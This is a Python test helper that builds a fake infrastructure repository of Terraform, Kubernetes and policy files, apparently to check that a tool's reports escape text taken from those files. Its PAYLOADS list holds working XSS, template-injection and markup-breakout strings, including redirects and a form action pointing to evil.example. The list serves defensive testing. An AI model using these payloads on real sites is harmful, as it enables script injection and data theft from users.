"""Write a repository with markup and scripts wherever a page shows text from files."""

from __future__ import annotations

import json

from kcheck.text.control_characters import visible

PAYLOADS = (
    "</script><script>owned(1)</script>",
    '"><img src=x onerror=owned(2)>',
    "' onmouseover='owned(3)' autofocus onfocus='owned(3)",
    "javascript:owned(4)//",
    '<a href="javascript:owned(5)">here</a>',
    "{{7*7}}{% set x = 1 %}{{ ''.__class__ }}{# gone #}",
    "]]><svg onload=owned(6)><![CDATA[",
    "<svg><script>owned(7)</script><use href='data:image/svg+xml,x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned(8)></style></mglyph></table></mtext></math>",
    "--><script>owned(9)</script><!--",
    "</style></title></textarea><script>owned(10)</script>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;owned(11)&lt;/script&gt; &#60;b&#62;",
    "\x00<scr\x00ipt>owned(12)</scr\x00ipt>",
    "\u202e\u2066<b>\u2028\u200b\ufeff turned",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>parent.owned(13)</script>'></iframe><object data=x><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=owned(14)>'>",
    "<form action=//evil.example><input name=severity><button formaction=javascript:owned(15)>",
    "<template shadowrootmode=open><slot onslotchange=owned(16)></template><details open ontoggle=owned(17)>",
    'https://evil.example/?" onclick="owned(18)',
    "<plaintext><xmp><listing>",
    "`\\u003cscript\\u003e` ${owned(19)} \\x3cimg\\x3e",
)
LONG = "<script>owned(20)</script>" * 18_000
"""A value almost as long as a line may be."""


def files(payloads: tuple[str, ...] = PAYLOADS) -> dict[str, str]:
    """Return a tree with a folder for each payload that has everything a page shows, settings, and rules."""
    found: dict[str, str] = {
        "policy/own/odd-cluster.yaml": _rule(payloads[0]),
        "policy/own/odd-job.yaml": _job_rule(payloads),
    }
    for number, payload in enumerate(payloads):
        name = f"{number} {file_name(payload)}"
        found |= {
            f"{name}/main.tf": _cluster(payload),
            f"{name}/{file_name(payload)}.tfvars": f"sku = {_text(payload)}\n",
            f"broken {name}/{file_name(payload)}.tf": 'resource "azurerm_subnet" "a" {\n  name =\n}\n',
            f"{name}/job {file_name(payload)}.yaml": _job(payload),
        }
    found["kcheck.yaml"] = _settings(payloads)
    for name, text in (("long", LONG), ("too long", LONG * 3)):
        found[f"{name}/main.tf"] = _cluster(name).replace(f'name     = "{name}"', f"name     = {_text(text)}", 1)
    return found


def file_name(payload: str) -> str:
    """Return a payload as a legal file name."""
    return payload.replace("\x00", "").replace("/", "\u2044")[:70].strip()


def shown(payload: str) -> str:
    """Return a payload as a reader should see it, with runs of spaces joined."""
    return " ".join(visible(payload).split())


def _text(payload: str) -> str:
    """Return a payload as a string of HCL, JSON and YAML."""
    return json.dumps(payload.replace("\x00", "")).replace("${", "$${").replace("%{", "%%{")


def _cluster(payload: str) -> str:
    text, comment = _text(payload), " ".join(payload.replace("\x00", "").split())
    return f"""\
# {comment}
variable "most" {{
  description = {text}
  type        = number
}}

resource "azurerm_subnet" "nodes" {{
  name             = {text} # {comment}
  address_prefixes = ["10.0.0.0/24"] # {comment}
}}

resource "azurerm_kubernetes_cluster" "main" {{
  # {comment}
  name     = {text} # {comment}
  sku_tier = "Free" # {comment}
  default_node_pool {{
    name           = {text}
    node_count     = 5000 # {comment}
    vnet_subnet_id = azurerm_subnet.nodes.id
  }}
  auto_scaler_profile {{
    scale_down_unneeded = "30m" # kcheck: ignore[idle-nodes-kept-long] {comment}
    expander            = {text}
  }}
}}

resource "azurerm_kubernetes_cluster_node_pool" "more" {{
  name                  = {text}
  kubernetes_cluster_id = azurerm_kubernetes_cluster.main.id
  vnet_subnet_id        = azurerm_subnet.nodes.id
  vm_size               = "Standard_ND96asr_v4"
  auto_scaling_enabled  = true
  max_count             = var.most
}}

module "unread" {{
  source = {text}
  nodes  = var.most
}}
"""


def _job(payload: str) -> str:
    text = json.dumps(payload.replace("\x00", ""))
    return f"""\
apiVersion: batch/v1
kind: Job
metadata: {{name: {text}, namespace: {text}}}
spec:
  parallelism: 700
  completions: 700
  template:
    spec:
      containers:
        - {{name: {text}, image: {text}, resources: {{limits: {{nvidia.com/gpu: 8}}}}}}
"""


def _rule(payload: str) -> str:
    text = json.dumps(payload)
    return f"""\
summary: {text}
severity: error
subject: cluster
problem: cluster.name != ""
at: cluster.name
message: "{{cluster.name}}"
details: ["{{cluster.name}}"]
help: "{{cluster.name}}"
---
why: {text}
"""


def _job_rule(payloads: tuple[str, ...]) -> str:
    every = " ".join(payloads).replace("{", "(").replace("}", ")").replace("\x00", "")
    text = json.dumps(every)
    return f"""\
summary: {text}
severity: warning
subject: workload
problem: workload.name != ""
at: workload.name
message: {text}
details: [{text}]
help: {text}
"""


def _settings(payloads: tuple[str, ...]) -> str:
    lines = [
        f"  - {{rule: moving-image-tag, path: {json.dumps(path)}, reason: {json.dumps(path)}, expires: 2020-01-01}}"
        for path in (payload.replace("\x00", "") for payload in payloads)
    ]
    return "\n".join(["rules: [policy]", "suppressions:", *lines]) + "\n"
